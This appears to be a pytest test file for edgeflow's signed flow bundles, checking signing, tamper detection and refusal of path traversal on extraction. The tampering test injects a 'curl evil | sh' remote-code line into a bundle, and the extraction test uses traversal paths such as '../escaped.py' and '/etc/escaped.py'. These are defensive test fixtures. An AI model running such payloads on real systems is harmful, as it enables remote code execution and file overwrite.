"""Signed flow bundles (issue 16): `edgeflow bundle build` packs a flow, its local modules and
tables into one deterministic file; `sign` / `verify` with Ed25519 keys (ours or openssl's);
one flipped byte anywhere, a wrong key, a missing signature, a re-hashed tampered file and a
path that leaves the extraction directory are each refused with one clear line (exit 2 from
the CLI, never a traceback); the extracted flow runs."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import time
import zipfile
from pathlib import Path

import orjson
import pytest

from edgeflow.bundle import (
    BUNDLE_SUFFIX,
    Bundle,
    BundleError,
    archive,
    build,
    fingerprint,
    generate,
    is_bundle,
    load_public_key,
    open_bundle,
    sign,
    trusted_keys_from_env,
)
from edgeflow.bundle import manifest as mf
from tests.helpers import edgeflow, records

FLOW = """
from pathlib import Path

from edgeflow import Flow
from edgeflow.connectors import files, simulate

import sitecfg
from tools.units import celsius

HERE = Path(__file__).parent
flow = Flow("plant-a")
r = flow.source(simulate.sensors(devices=sitecfg.DEVICES, rate_hz=20, seed=1, speed=1.0))
e = r.enrich(str(HERE / "devices.csv"), key="device", name="sites")
e.to(files.sink(str(HERE / "out.jsonl")), name="out")
"""


def make_project(root: Path) -> Path:
    """A flow dir: the flow, a local module, a local package, a table, and things a bundle
    must NOT take (an unrelated file, an earlier output, byte code)."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "flow.py").write_text(FLOW)
    (root / "sitecfg.py").write_text("DEVICES = 2\n")
    (root / "tools").mkdir(exist_ok=True)
    (root / "tools" / "__init__.py").write_text("")
    (root / "tools" / "units.py").write_text("def celsius(x):\n    return x\n")
    (root / "devices.csv").write_text("device,site,limit\ndev-0,a,7\ndev-1,b,9\n")
    (root / "notes.txt").write_text("not referenced\n")
    (root / "out.jsonl").write_text('{"old": 1}\n')
    (root / "__pycache__").mkdir(exist_ok=True)
    (root / "__pycache__" / "sitecfg.cpython-311.pyc").write_bytes(b"\x00" * 16)
    return root / "flow.py"


EXPECTED = ["devices.csv", "flow.py", "sitecfg.py", "tools/__init__.py", "tools/units.py"]


@pytest.fixture()
def signed(tmp_path: Path) -> tuple[Path, Path, Path]:
    """(bundle signed with key 'k', k.pub, k.key)."""
    flow = make_project(tmp_path / "proj")
    out, _ = build(flow, tmp_path / "plant.efb", version="1.0")
    key, pub = generate(tmp_path / "k")
    sign(out, key)
    return out, pub, key


def data_offsets(path: Path) -> dict[str, tuple[int, int]]:
    """Where each member's compressed bytes lie in the file, read with the standard zipfile
    module (independent of edgeflow's reader)."""
    raw = path.read_bytes()
    out = {}
    with zipfile.ZipFile(path) as z:
        for info in z.infolist():
            start = info.header_offset + 30 + len(info.filename.encode())
            assert raw[info.header_offset : info.header_offset + 4] == b"PK\x03\x04"
            out[info.filename] = (start, start + info.compress_size)
    return out


def flipped(src: Path, dst: Path, offset: int) -> Path:
    data = bytearray(src.read_bytes())
    data[offset] ^= 0xFF
    dst.write_bytes(bytes(data))
    return dst


def one_error_line(res: subprocess.CompletedProcess[str]) -> str:
    assert res.returncode == 2, (res.returncode, res.stdout, res.stderr)
    assert "Traceback" not in res.stderr
    lines = [x for x in res.stderr.splitlines() if x.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), res.stderr
    return lines[0]


def test_build_is_deterministic_and_packs_local_modules_and_tables_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    flow = make_project(tmp_path / "proj")
    a, bundle = build(flow, tmp_path / "a.efb", version="1.0")
    b, _ = build(flow, tmp_path / "b.efb", version="1.0")
    assert a.read_bytes() == b.read_bytes()
    assert sorted(bundle.manifest["files"]) == EXPECTED
    assert bundle.name == "plant-a" and bundle.version == "1.0" and bundle.signed_by is None
    m = bundle.manifest
    assert m["entry"] == "flow.py" and m["edgeflow_version"]
    assert m["created_at"].endswith("Z")
    assert m["files"]["devices.csv"] == mf.sha256((tmp_path / "proj/devices.csv").read_bytes())
    # the same files elsewhere (mtimes kept): the same bytes
    copy = tmp_path / "elsewhere" / "proj"
    shutil.copytree(tmp_path / "proj", copy)
    c, _ = build(copy / "flow.py", tmp_path / "c.efb", version="1.0")
    assert c.read_bytes() == a.read_bytes()
    # touched later: the same bytes with SOURCE_DATE_EPOCH (the reproducible-builds clock)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    c1, _ = build(flow, tmp_path / "c1.efb", version="1.0")
    for p in copy.rglob("*"):
        os.utime(p, (time.time() + 100, time.time() + 100))
    c2, b2 = build(copy / "flow.py", tmp_path / "c2.efb", version="1.0")
    assert c1.read_bytes() == c2.read_bytes()
    assert b2.manifest["created_at"] == "2023-11-14T22:13:20Z"
    monkeypatch.delenv("SOURCE_DATE_EPOCH")
    # a changed table changes the bytes; a different version too
    (copy / "devices.csv").write_text("device,site,limit\ndev-0,a,8\n")
    d, _ = build(copy / "flow.py", tmp_path / "d.efb", version="1.0")
    assert d.read_bytes() != a.read_bytes()
    # the CLI writes the same bytes to NAME-VERSION.efb by default
    res = edgeflow("bundle", "build", str(flow), "--version", "1.0", "-o", str(tmp_path / "e.efb"))
    assert (tmp_path / "e.efb").read_bytes() == a.read_bytes()
    assert "plant-a version 1.0 (5 files, entry flow.py)" in res.stdout


def test_the_extracted_flow_runs_with_its_module_and_table(
    signed: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    bundle_path, pub, _ = signed
    shutil.rmtree(tmp_path / "proj")  # the node has only the bundle
    b = open_bundle(bundle_path, [pub])
    entry = b.extract(tmp_path / "node" / "plant-a" / "1.0")
    assert entry == tmp_path / "node" / "plant-a" / "1.0" / "flow.py"
    assert (
        sorted(
            p.relative_to(entry.parent).as_posix() for p in entry.parent.rglob("*") if p.is_file()
        )
        == EXPECTED
    )
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600
    assert stat.S_IMODE(entry.parent.stat().st_mode) == 0o700
    res = edgeflow("validate", str(entry))
    assert "flow 'plant-a' is valid" in res.stdout
    edgeflow("run", str(entry), "--for", "2s", "--no-live")
    got = records(entry.parent / "out.jsonl")
    assert got, "the extracted flow wrote nothing"
    assert {r["key"]: r["limit"] for r in got} == {"dev-0": 7.0, "dev-1": 9.0}


def test_a_signed_bundle_opens_with_the_right_key(
    signed: tuple[Path, Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle_path, pub, _ = signed
    b = open_bundle(bundle_path, [pub])
    assert b.signed_by == fingerprint(load_public_key(pub)) == b.signature_key
    assert is_bundle(bundle_path)
    res = edgeflow("bundle", "verify", str(bundle_path), "--trust", str(pub))
    assert f"signed by trusted key {b.signed_by}" in res.stdout
    # EDGEFLOW_TRUST: the node setting
    monkeypatch.setenv("EDGEFLOW_TRUST", f"/nonexistent.pub{os.pathsep}{pub}")
    assert trusted_keys_from_env() == [Path("/nonexistent.pub"), pub]
    monkeypatch.setenv("EDGEFLOW_TRUST", str(pub))
    res = edgeflow("bundle", "verify", str(bundle_path), env=dict(os.environ))
    assert "signed by trusted key" in res.stdout


def test_one_flipped_byte_anywhere_is_refused_naming_what(
    signed: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    bundle_path, pub, _ = signed
    size = bundle_path.stat().st_size
    where = data_offsets(bundle_path)
    bad = tmp_path / "bad.efb"
    # every single byte of the file, flipped: refused by open_bundle, with or without trust
    for offset in range(size):
        flipped(bundle_path, bad, offset)
        with pytest.raises(BundleError):
            open_bundle(bad, [pub])
        with pytest.raises(BundleError):
            open_bundle(bad)
    # inside compressed data the message names the member
    named = {
        "files/flow.py": "'flow.py'",
        "files/devices.csv": "'devices.csv'",
        "manifest.json": "manifest.json",
        "signature.json": "signature.json",
    }
    for member, text in named.items():
        start, end = where[member]
        for offset in (start, (start + end) // 2, end - 1):
            flipped(bundle_path, bad, offset)
            with pytest.raises(BundleError, match=text):
                open_bundle(bad, [pub])
    # truncated anywhere
    data = bundle_path.read_bytes()
    for n in (0, 10, 40, size // 2, size - 30, size - 1):
        bad.write_bytes(data[:n])
        with pytest.raises(BundleError):
            open_bundle(bad, [pub])
    # the CLI: exit 2, one line, naming the file, for a flip in a table and in the manifest
    start, end = where["files/devices.csv"]
    flipped(bundle_path, bad, (start + end) // 2)
    line = one_error_line(edgeflow("bundle", "verify", str(bad), "--trust", str(pub), check=False))
    assert "devices.csv" in line and "damaged" in line
    start, end = where["manifest.json"]
    flipped(bundle_path, bad, (start + end) // 2)
    line = one_error_line(edgeflow("bundle", "verify", str(bad), "--trust", str(pub), check=False))
    assert "manifest.json" in line
    flipped(bundle_path, bad, size - 40)  # the central directory
    line = one_error_line(edgeflow("bundle", "inspect", str(bad), check=False))
    assert "altered" in line


def test_a_tampered_file_with_recomputed_hashes_fails_the_signature(
    signed: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    """An attacker who rewrites flow.py, fixes its hash in the manifest and re-packs the
    archive canonically still cannot produce the signature."""
    bundle_path, pub, _ = signed
    entries = {e.name: e for e in archive.read_entries(bundle_path)}
    manifest = orjson.loads(archive.unpack(entries["manifest.json"]))
    evil = b"import os\nos.system('curl evil | sh')\n" + archive.unpack(entries["files/flow.py"])
    manifest["files"]["flow.py"] = mf.sha256(evil)
    entries["files/flow.py"] = archive.pack("files/flow.py", evil)
    entries["manifest.json"] = archive.pack("manifest.json", mf.dumps(manifest))
    bad = tmp_path / "evil.efb"
    bad.write_bytes(archive.serialize(list(entries.values())))
    with pytest.raises(BundleError, match="does not match the bundle's manifest"):
        open_bundle(bad, [pub])
    # without trust keys the container is intact: the node setting decides
    assert open_bundle(bad).signed_by is None


def test_a_wrong_key_or_no_signature_is_refused(
    signed: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    bundle_path, pub, _ = signed
    _, other_pub = generate(tmp_path / "other")
    with pytest.raises(BundleError, match="not trusted here"):
        open_bundle(bundle_path, [other_pub])
    line = one_error_line(
        edgeflow("bundle", "verify", str(bundle_path), "--trust", str(other_pub), check=False)
    )
    assert f"signed by key {fingerprint(load_public_key(pub))}" in line and "--trust" in line
    unsigned, _ = build(make_project(tmp_path / "p2"), tmp_path / "unsigned.efb")
    with pytest.raises(BundleError, match="is not signed; sign it with `edgeflow bundle sign"):
        open_bundle(unsigned, [pub])
    with pytest.raises(BundleError, match="is not signed"):
        open_bundle(unsigned, require_signature=True)
    line = one_error_line(
        edgeflow("bundle", "verify", str(unsigned), "--trust", str(pub), check=False)
    )
    assert "is not signed" in line
    env = {**os.environ, "EDGEFLOW_TRUST": str(pub)}
    line = one_error_line(edgeflow("bundle", "verify", str(unsigned), env=env, check=False))
    assert "is not signed" in line
    # without trust keys, verify checks integrity and says it is unsigned
    res = edgeflow("bundle", "verify", str(unsigned))
    assert "NOT signed" in res.stdout
    # a private key given as a trust key, a missing key, a non-key: one line each
    for trust, text in (
        (tmp_path / "other.key", "is a private key"),
        (tmp_path / "missing.pub", "does not exist"),
        (unsigned, "not an Ed25519 public key"),
    ):
        line = one_error_line(
            edgeflow("bundle", "verify", str(bundle_path), "--trust", str(trust), check=False)
        )
        assert text in line


def test_an_openssl_generated_key_pair_works_and_keygen_writes_openssl_formats(
    tmp_path: Path,
) -> None:
    key, pub = tmp_path / "ossl.key", tmp_path / "ossl.pub"
    subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", str(key)], check=True)
    subprocess.run(["openssl", "pkey", "-in", str(key), "-pubout", "-out", str(pub)], check=True)
    out, _ = build(make_project(tmp_path / "proj"), tmp_path / "b.efb")
    res = edgeflow("bundle", "sign", str(out), "--key", str(key))
    assert "signed" in res.stdout
    res = edgeflow("bundle", "verify", str(out), "--trust", str(pub))
    assert "signed by trusted key" in res.stdout
    # edgeflow bundle keygen: openssl reads the private key and derives the same public key
    edgeflow("bundle", "keygen", str(tmp_path / "ours"))
    assert stat.S_IMODE((tmp_path / "ours.key").stat().st_mode) == 0o600
    derived = subprocess.run(
        ["openssl", "pkey", "-in", str(tmp_path / "ours.key"), "-pubout"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    assert derived == (tmp_path / "ours.pub").read_text()
    line = one_error_line(edgeflow("bundle", "keygen", str(tmp_path / "ours"), check=False))
    assert "already exists" in line


def test_a_passphrase_protected_key_signs_with_the_passphrase_from_the_environment(
    tmp_path: Path,
) -> None:
    env = {**os.environ, "SIGN_PASS": "correct horse"}
    edgeflow("bundle", "keygen", str(tmp_path / "k"), "--passphrase-env", "SIGN_PASS", env=env)
    assert b"ENCRYPTED" in (tmp_path / "k.key").read_bytes()
    out, _ = build(make_project(tmp_path / "proj"), tmp_path / "b.efb")
    line = one_error_line(
        edgeflow("bundle", "sign", str(out), "--key", str(tmp_path / "k.key"), check=False)
    )
    assert "passphrase-protected" in line and "--passphrase-env" in line
    wrong = {**os.environ, "SIGN_PASS": "wrong"}
    args = ("bundle", "sign", str(out), "--key", str(tmp_path / "k.key"))
    line = one_error_line(edgeflow(*args, "--passphrase-env", "SIGN_PASS", env=wrong, check=False))
    assert "passphrase does not open" in line
    edgeflow(*args, "--passphrase-env", "SIGN_PASS", env=env)
    assert open_bundle(out, [tmp_path / "k.pub"]).signed_by is not None


def test_extract_refuses_paths_that_leave_the_directory(
    signed: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    bundle_path, pub, _ = signed
    good = open_bundle(bundle_path, [pub])
    dest = tmp_path / "dest"
    # a hostile manifest: valid hashes, canonical archive, a path with '..'
    for rel in ("../escaped.py", "/etc/escaped.py", "a/../../escaped.py", "a\\..\\x.py"):
        files = {"flow.py": b"x = 1\n", rel: b"boom\n"}
        manifest = {
            **good.manifest,
            "files": {k: mf.sha256(v) for k, v in files.items()},
        }
        entries = [archive.pack("manifest.json", mf.dumps(manifest))]
        entries += [archive.pack("files/" + k, v) for k, v in files.items()]
        bad = tmp_path / "evil.efb"
        bad.write_bytes(archive.serialize(entries))
        with pytest.raises(BundleError, match="outside its own directory"):
            open_bundle(bad)
        # a Bundle made by hand with such a path: extract refuses before writing anything
        forged = Bundle(bad, "x", "0", manifest, None, files=files)
        with pytest.raises(BundleError, match="outside its own directory"):
            forged.extract(dest)
    assert not (tmp_path / "escaped.py").exists() and not dest.exists()
    # a hostile version (used as a directory name by deploy) is refused too
    files = {"flow.py": b"x = 1\n"}
    manifest = {
        **good.manifest,
        "version": "../../etc",
        "files": {"flow.py": mf.sha256(files["flow.py"])},
    }
    entries = [archive.pack("manifest.json", mf.dumps(manifest))]
    entries.append(archive.pack("files/flow.py", files["flow.py"]))
    bad.write_bytes(archive.serialize(entries))
    with pytest.raises(BundleError, match=r"manifest version .* is not a version"):
        open_bundle(bad)
    # a zip made by another tool with a '..' member: not a canonical bundle, refused
    z = tmp_path / "zipped.efb"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("manifest.json", mf.dumps(good.manifest))
        zf.writestr("files/../escaped.py", b"boom")
    with pytest.raises(BundleError):
        open_bundle(z)
    # a symlink in the destination that points outside
    outside = tmp_path / "outside"
    outside.mkdir()
    dest.mkdir()
    (dest / "tools").symlink_to(outside)
    with pytest.raises(BundleError, match="symbolic link"):
        good.extract(dest)
    assert list(outside.iterdir()) == []


def test_is_bundle_goes_by_content_and_damaged_input_never_tracebacks(
    signed: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    bundle_path, _, _ = signed
    renamed = tmp_path / "looks_like_a_flow.py"
    shutil.copy(bundle_path, renamed)
    assert is_bundle(renamed)
    assert not is_bundle(tmp_path / "proj" / "flow.py")
    assert not is_bundle(tmp_path / "nope.efb")
    plain = tmp_path / "plain.zip"
    with zipfile.ZipFile(plain, "w") as zf:
        zf.writestr("flow.py", "x = 1")
    assert not is_bundle(plain)
    assert BUNDLE_SUFFIX == ".efb"
    empty = tmp_path / "empty.efb"
    empty.write_bytes(b"")
    junk = tmp_path / "junk.efb"
    junk.write_bytes(b"PK\x03\x04" + os.urandom(200))
    for path, text in (
        (empty, "is not an edgeflow bundle"),
        (junk, "is not an edgeflow bundle"),
        (plain, "is not an edgeflow bundle"),
        (tmp_path / "nope.efb", "does not exist"),
        (tmp_path, "is a directory"),
    ):
        with pytest.raises(BundleError, match=text):
            open_bundle(path)
    for cmd in ("verify", "inspect"):
        line = one_error_line(edgeflow("bundle", cmd, str(junk), check=False))
        assert "junk.efb" in line
    # sign refuses a damaged bundle rather than signing it
    key = tmp_path / "k.key"
    bad = flipped(bundle_path, tmp_path / "bad.efb", data_offsets(bundle_path)["files/flow.py"][0])
    line = one_error_line(edgeflow("bundle", "sign", str(bad), "--key", str(key), check=False))
    assert "'flow.py'" in line


def test_inspect_prints_the_manifest_and_build_errors_are_one_line(
    signed: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    bundle_path, pub, _ = signed
    res = edgeflow("bundle", "inspect", str(bundle_path), "--json")
    doc = orjson.loads(res.stdout)
    assert doc["manifest"]["name"] == "plant-a" and doc["manifest"]["version"] == "1.0"
    assert sorted(doc["manifest"]["files"]) == EXPECTED
    assert doc["signature"]["key"] == fingerprint(load_public_key(pub))
    text = edgeflow("bundle", "inspect", str(bundle_path)).stdout
    assert "plant-a" in text and "devices.csv" in text and "tools/units.py" in text
    proj = tmp_path / "proj"
    cases = [
        (("--include", str(tmp_path / "k.pub")), "outside the flow's directory"),
        (("--include", str(proj / "missing.csv")), "does not exist"),
        (("--version", "1 0"), "version '1 0' is not usable"),
    ]
    for extra, text in cases:
        line = one_error_line(
            edgeflow("bundle", "build", str(proj / "flow.py"), *extra, check=False)
        )
        assert text in line
    (proj / "broken.py").write_text("def (:\n")
    line = one_error_line(edgeflow("bundle", "build", str(proj / "broken.py"), check=False))
    assert "broken.py:1" in line
    # --include adds a file the source does not name
    _out, b = build(proj / "flow.py", tmp_path / "inc.efb", include=[proj / "notes.txt"])
    assert "notes.txt" in b.manifest["files"]


def test_files_that_look_like_secrets_are_left_out_unless_included_one_by_one(
    tmp_path: Path,
) -> None:
    flow = make_project(tmp_path / "proj")
    certs = tmp_path / "proj" / "certs"
    certs.mkdir()
    (certs / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    (certs / "client.pem").write_text(
        "-----BEGIN PRIVATE KEY-----\nMC4C\n-----END PRIVATE KEY-----\n"
    )
    (certs / "sasl_password.txt").write_text("hunter2\n")
    flow.write_text(
        FLOW
        + 'TLS = {"ca": "certs/ca.pem", "key": "certs/client.pem", '
        + '"password_file": "certs/sasl_password.txt"}\n'
    )
    left_out: dict[str, str] = {}
    _, b = build(flow, tmp_path / "a.efb", left_out=left_out)
    assert "certs/ca.pem" in b.manifest["files"]
    assert left_out == {
        "certs/client.pem": "it holds a private key",
        "certs/sasl_password.txt": "its name says it holds a secret",
    }
    assert not {"certs/client.pem", "certs/sasl_password.txt"} & set(b.manifest["files"])
    res = edgeflow("bundle", "build", str(flow), "-o", str(tmp_path / "b.efb"))
    assert "left out certs/client.pem: it holds a private key" in res.stderr
    # a directory --include leaves them out too; naming one file takes it
    _, b = build(flow, tmp_path / "c.efb", include=[certs])
    assert "certs/client.pem" not in b.manifest["files"]
    _, b = build(flow, tmp_path / "d.efb", include=[certs / "client.pem"])
    assert "certs/client.pem" in b.manifest["files"]
